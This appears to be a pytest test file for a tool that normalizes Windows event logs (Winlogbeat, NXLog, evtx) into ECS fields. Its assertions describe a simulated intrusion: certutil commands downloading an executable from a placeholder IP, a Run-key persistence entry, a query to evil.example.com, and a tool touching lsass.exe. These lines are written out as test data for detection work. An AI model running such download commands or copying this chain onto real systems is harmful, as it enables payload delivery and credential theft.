"""Windows events in ECS (issue 12): what Winlogbeat's Security and Sysmon ingest pipelines fill,
from evtx_dump, Winlogbeat and NXLog records alike, with `winlog.event_data` left verbatim."""

from __future__ import annotations

from typing import Any

import orjson
import pytest
from canhgac.core.event import get_path
from canhgac.pipeline.normalize.windows import from_evtx_json, from_nxlog, from_winlogbeat
from canhgac.pipeline.normalize.windows_ecs import SECURITY, SYSMON, SYSTEM, audit_outcome
from golden_runner import GOLDEN, WINDOWS_GOLDEN, run_windows

WINLOGBEAT_INPUT = GOLDEN / "windows" / "winlogbeat.input.log"


def winlogbeat_records() -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in WINLOGBEAT_INPUT.read_bytes().splitlines()]


def by_code(code: str, nth: int = 0) -> dict[str, Any]:
    found = [from_winlogbeat(r) for r in winlogbeat_records() if r["winlog"]["event_id"] == code]
    return found[nth]


@pytest.mark.parametrize("file", sorted(WINDOWS_GOLDEN))
def test_windows_golden(file: str) -> None:
    expected_file = GOLDEN / "windows" / f"{file}.expected.jsonl"
    expected = [orjson.loads(line) for line in expected_file.read_bytes().splitlines()]
    actual = run_windows(file)
    assert len(actual) == len(expected)
    for number, (got, want) in enumerate(zip(actual, expected, strict=True), start=1):
        assert got == want, f"windows/{file} input line {number} differs from golden"


def test_event_data_stays_verbatim() -> None:
    for record in winlogbeat_records():
        event = from_winlogbeat(record)
        source = record["winlog"].get("event_data") or record["winlog"].get("user_data")
        assert event["winlog"]["event_data"] == source


SECURITY_IDS = [4624, 4625, 4634, 4648, 4672, 4688, 4689, 4697, 4698, 4720, 4722, 4723, 4724, 4725, 4726]
SECURITY_IDS += [4728, 4732, 4738, 4740, 4756, 4768, 4769, 4771, 4776, 1102]
SYSMON_IDS = [1, 3, 5, 7, 8, 10, 11, 12, 13, 14, 15, 17, 18, 22, 23, 25]


@pytest.mark.parametrize(("table", "ids"), [(SECURITY, SECURITY_IDS), (SYSMON, SYSMON_IDS), (SYSTEM, [7045])])
def test_common_event_ids_have_a_table_entry(table: dict[int, Any], ids: list[int]) -> None:
    assert sorted(set(ids) - set(table)) == []


def test_every_golden_record_is_categorised() -> None:
    for record in winlogbeat_records():
        event = from_winlogbeat(record)["event"]
        assert event["category"] and event["type"] and event["action"], record["winlog"]["event_id"]


# ---- certutil: the search that found nothing before -------------------------------------------------


def test_sysmon_certutil_process_fields() -> None:
    event = by_code("1")
    process = event["process"]
    assert process["name"] == "certutil.exe"
    assert process["executable"] == "C:\\Windows\\System32\\certutil.exe"
    assert process["command_line"].startswith("certutil.exe -urlcache -split -f http://203.0.113.80/")
    assert process["pid"] == 7944
    assert process["parent"] == {
        "executable": "C:\\Windows\\System32\\cmd.exe",
        "name": "cmd.exe",
        "pid": 6304,
        "entity_id": "{5AA13A44-0FEC-68FC-281E-000000004002}",
        "command_line": '"C:\\Windows\\system32\\cmd.exe" ',
    }
    assert process["hash"] == {
        "md5": "a5e2b5a3e1f0b1b0b6f0e0d6c8b7a1f2",
        "sha256": "7d6b2e1c0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d",
    }
    assert "imphash" not in process.get("pe", {}), "an all-zero IMPHASH means not computed"
    assert process["pe"]["original_file_name"] == "CertUtil.exe"
    assert event["user"] == {"domain": "SOTTTT", "name": "nguyen.lan"}
    assert event["event"]["category"] == ["process"] and event["event"]["type"] == ["start"]


def test_security_4688_certutil_process_fields() -> None:
    event = by_code("4688")
    assert event["process"]["name"] == "certutil.exe"
    assert event["process"]["pid"] == 0x1F3C
    assert event["process"]["parent"] == {
        "executable": "C:\\Windows\\System32\\cmd.exe",
        "name": "cmd.exe",
        "pid": 0x12A8,
    }
    assert event["user"]["name"] == "admin.tin"
    assert "effective" not in event["user"], "TargetUserName '-' and the NULL SID are no one"
    assert event["event"]["action"] == "created-process" and event["event"]["outcome"] == "success"


def test_nxlog_certutil_process_fields() -> None:
    event = from_nxlog(
        {
            "EventTime": "2026-12-06 10:00:00",
            "Hostname": "ws-vanthu01",
            "EventID": 4688,
            "SourceName": "Microsoft-Windows-Security-Auditing",
            "Channel": "Security",
            "Keywords": "-9214364837600034816",
            "EventType": "AUDIT_SUCCESS",
            "SubjectUserName": "admin.tin",
            "SubjectDomainName": "SOTTTT",
            "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
            "NewProcessId": "0x1f3c",
            "CommandLine": "certutil -urlcache -f http://x/a a.exe",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
        }
    )
    assert event["process"]["name"] == "certutil.exe"
    assert event["process"]["parent"]["name"] == "cmd.exe"
    assert event["event"]["outcome"] == "success"
    assert event["winlog"]["event_data"]["NewProcessName"] == "C:\\Windows\\System32\\certutil.exe"


def test_evtx_sysmon_process_fields() -> None:
    line = (GOLDEN / "windows" / "evtx.input.log").read_bytes().splitlines()[0]
    event = from_evtx_json(orjson.loads(line))
    assert event["process"]["name"] == "reg.exe"
    assert event["process"]["pid"] == 7112
    assert event["process"]["parent"]["name"] == "cmd.exe"
    assert event["process"]["pe"]["imphash"] == "e23a24f7ba9b35b3e9706724f6749860"
    assert event["user"] == {"domain": "ATTACKRANGE", "name": "Administrator"}


# ---- logons and accounts ---------------------------------------------------------------------------


def test_network_logon_user_and_source() -> None:
    event = by_code("4624")
    assert event["user"] == {
        "name": "nguyen.lan",
        "domain": "SOTTTT",
        "id": "S-1-5-21-3457937927-2839227994-823803824-1107",
    }
    assert event["source"] == {"ip": "10.20.30.41", "port": 49812, "domain": "KETOAN-PC"}
    assert "process" not in event, "ProcessId 0x0 and ProcessName '-' are no process"
    assert event["event"]["outcome"] == "success"


def test_rdp_logon_with_ipv4_mapped_address_and_port_zero() -> None:
    event = by_code("4624", 1)
    assert event["source"] == {"ip": "203.113.5.9", "domain": "WS-VANTHU01"}
    assert event["process"] == {"executable": "C:\\Windows\\System32\\svchost.exe", "name": "svchost.exe", "pid": 0x1D4}


def test_failed_logon() -> None:
    event = by_code("4625")
    assert event["event"]["outcome"] == "failure"
    assert event["event"]["action"] == "logon-failed"
    assert event["user"] == {"name": "administrator", "domain": "SOTTTT"}
    assert event["source"]["ip"] == "198.51.100.23"


@pytest.mark.parametrize("code", ["4720", "4722", "4724", "4725", "4726", "4738"])
def test_account_management_puts_the_account_in_user_target(code: str) -> None:
    event = by_code(code)
    assert event["user"]["name"] == "admin.tin"
    assert event["user"]["target"] == {
        "name": "tranvan.b",
        "domain": "SOTTTT",
        "id": "S-1-5-21-3457937927-2839227994-823803824-1190",
    }
    assert event["event"]["category"] == ["iam"] and "user" in event["event"]["type"]


def test_group_membership() -> None:
    event = by_code("4728")
    assert event["group"] == {
        "name": "Domain Admins",
        "id": "S-1-5-21-3457937927-2839227994-823803824-512",
        "domain": "SOTTTT",
    }
    assert event["user"]["target"] == {"name": "Tran Van B", "id": "S-1-5-21-3457937927-2839227994-823803824-1190"}


def test_lockout_caller_computer_is_the_source() -> None:
    event = by_code("4740")
    assert event["user"]["target"] == {"name": "nguyen.lan", "id": "S-1-5-21-3457937927-2839227994-823803824-1107"}
    assert event["source"] == {"domain": "KETOAN-PC"}


def test_kerberos_user_without_realm_and_failure() -> None:
    assert by_code("4769")["user"]["name"] == "nguyen.lan"
    failed = by_code("4771")
    assert failed["event"]["outcome"] == "failure"
    assert failed["source"] == {"ip": "198.51.100.23", "port": 52114}


def test_log_cleared_user_from_user_data() -> None:
    assert by_code("1102")["user"]["name"] == "Administrator"


# ---- Sysmon objects ---------------------------------------------------------------------------------


def test_sysmon_network_connection() -> None:
    event = by_code("3")
    assert event["network"] == {"transport": "tcp", "direction": "egress", "type": "ipv4", "protocol": "http"}
    assert event["source"] == {"ip": "10.20.30.41", "port": 50544, "domain": "ws-vanthu01.sotttt.local"}
    assert event["destination"] == {"ip": "203.0.113.80", "port": 80}
    assert event["related"]["ip"] == ["10.20.30.41", "203.0.113.80"]


def test_sysmon_file_create() -> None:
    assert by_code("11")["file"] == {
        "path": "C:\\Users\\Public\\a.exe",
        "directory": "C:\\Users\\Public",
        "name": "a.exe",
        "extension": "exe",
    }


def test_sysmon_registry_value_set() -> None:
    run_key = by_code("13")["registry"]
    assert run_key["hive"] == "HKU" and run_key["value"] == "Updater"
    assert run_key["data"] == {"strings": ["C:\\Users\\Public\\a.exe"], "type": "REG_SZ"}
    assert by_code("13", 1)["registry"]["data"] == {"strings": ["0"], "type": "SZ_DWORD"}


def test_sysmon_dns_query() -> None:
    event = by_code("22")
    assert event["dns"] == {"question": {"name": "evil.example.com"}, "resolved_ip": ["203.0.113.80"]}


def test_sysmon_process_access_source_process() -> None:
    event = by_code("10")
    assert event["process"]["name"] == "mimi.exe"
    assert event["process"]["thread"] == {"id": 4412}
    assert event["winlog"]["event_data"]["TargetImage"] == "C:\\Windows\\system32\\lsass.exe"


def test_sysmon_file_delete_hashes_are_the_files() -> None:
    event = by_code("23")
    assert event["file"]["hash"]["sha256"].startswith("7d6b2e1c")
    assert "hash" not in event["process"]


def test_shipper_ecs_values_win_but_categorisation_is_ours() -> None:
    record = winlogbeat_records()[0]
    record = {**record, "user": {"name": "from-shipper"}}
    event = from_winlogbeat(record)
    assert event["user"]["name"] == "from-shipper"
    assert event["event"]["action"] == "logged-in"  # Winlogbeat's raw action is the task, "Logon"


@pytest.mark.parametrize(
    ("keywords", "outcome"),
    [
        (["Audit Success"], "success"),
        (["Audit Failure"], "failure"),
        ("0x8020000000000000", "success"),
        ("0x8010000000000000", "failure"),
        ("-9214364837600034816", "success"),
        ("-9218868437227405312", "failure"),
        ("0x8000000000000000", None),
        (["Classic"], None),
        ("junk", None),
        (None, None),
    ],
)
def test_audit_outcome_in_every_spelling(keywords: Any, outcome: str | None) -> None:
    assert audit_outcome(keywords) == outcome


def test_event_without_a_table_entry_is_left_alone() -> None:
    event = from_winlogbeat({"winlog": {"channel": "Security", "event_id": "5156", "event_data": {"Application": "x"}}})
    assert get_path(event, "event.category") is None
    assert "process" not in event
